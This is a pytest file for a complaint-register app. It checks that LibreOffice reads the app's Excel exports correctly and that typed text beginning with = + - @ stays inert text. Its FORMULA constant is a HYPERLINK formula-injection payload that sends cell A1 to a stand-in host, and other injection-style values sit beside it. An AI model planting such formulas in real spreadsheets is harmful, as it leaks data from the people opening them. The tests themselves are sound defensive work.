"""An independent reader: LibreOffice opens the exported workbooks and sees the same values."""

import csv
import shutil
import subprocess

import pytest
from openpyxl import load_workbook

from app import demo
from app.archives import excel
from app.register import RegisterFilter

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
pytestmark = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (Debian: libreoffice-calc-nogui)")


def _as_csv(book, tmp_path, sheet: int = 1) -> list[list[str]]:
    """The sheet as LibreOffice reads it, through headless --convert-to csv (UTF-8, ISO dates)."""
    profile = tmp_path / "lo-profile"
    filt = f"csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false,false,{sheet}"
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            filt,
            "--outdir",
            str(tmp_path / "csv"),
            str(book),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    out = next((tmp_path / "csv").glob("*.csv"))
    with open(out, encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def _text(value) -> str:
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:.2f}".rstrip("0").rstrip(".")
    return str(value)


def test_libreoffice_reads_the_register_export_with_the_same_values(database, tmp_path):
    demo.generate(60, seed=5)
    out = tmp_path / "登记簿.xlsx"
    excel.export_register(RegisterFilter(), "received_at", False, out)
    ours = list(load_workbook(out, read_only=True).active.iter_rows(values_only=True))
    theirs = _as_csv(out, tmp_path)
    assert len(theirs) == len(ours) == 61
    assert theirs[0] == [str(v) for v in ours[0]]  # Chinese headers
    for mine, seen in zip(ours[1:], theirs[1:]):
        assert seen[0] == mine[0] and seen[2] == mine[2] and seen[6] == mine[6]  # case no, status, business
        assert seen[1] == mine[1].strftime("%Y-%m-%d %H:%M:%S")  # a real date value, not text
        amount = seen[8].replace(",", "")
        assert (float(amount) if amount else None) == (None if mine[8] is None else pytest.approx(mine[8]))


FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")'


def test_typed_text_that_looks_like_a_formula_stays_text_in_every_export(database, tmp_path):
    """Issue 15: text typed at intake starting with = + - @ is never evaluated by a reader's
    spreadsheet; data stored before intake refused control characters still exports."""
    from app import cases
    from app.models import Complaint
    from tests.factories import intake_values

    ref = cases.intake(
        intake_values(
            **{"complainant__name": "+王五", "business__name": FORMULA, "complaint__facts": "@SUM(1+1) 空调不制冷"}
        )
    )
    Complaint.update(facts="旧数据\x1b[31m带控制字符\x07").where(Complaint.case == ref.id).execute()
    register_out, archive_out = tmp_path / "登记簿.xlsx", tmp_path / "档案.xlsx"
    excel.export_register(RegisterFilter(), "received_at", False, register_out)
    excel.export_archive(archive_out)
    for book, sheet, column, text in (
        (register_out, 1, 6, FORMULA),
        (register_out, 1, 4, "+王五"),
        (archive_out, 3, 1, FORMULA),
    ):
        cells = [row[column] for row in load_workbook(book).worksheets[sheet - 1].iter_rows() if row[column].value]
        assert [(c.value, c.data_type) for c in cells][1:] == [(text, "s")]
        (tmp_path / "csv").exists() and shutil.rmtree(tmp_path / "csv")
        seen = _as_csv(book, tmp_path, sheet)
        assert seen[1][column] == text  # LibreOffice shows the text, not a link or a result
    facts = [r for r in load_workbook(archive_out).worksheets[0].iter_rows(values_only=True) if r[0] == ref.case_no]
    assert "旧数据\ufffd[31m带控制字符\ufffd" in facts[0]
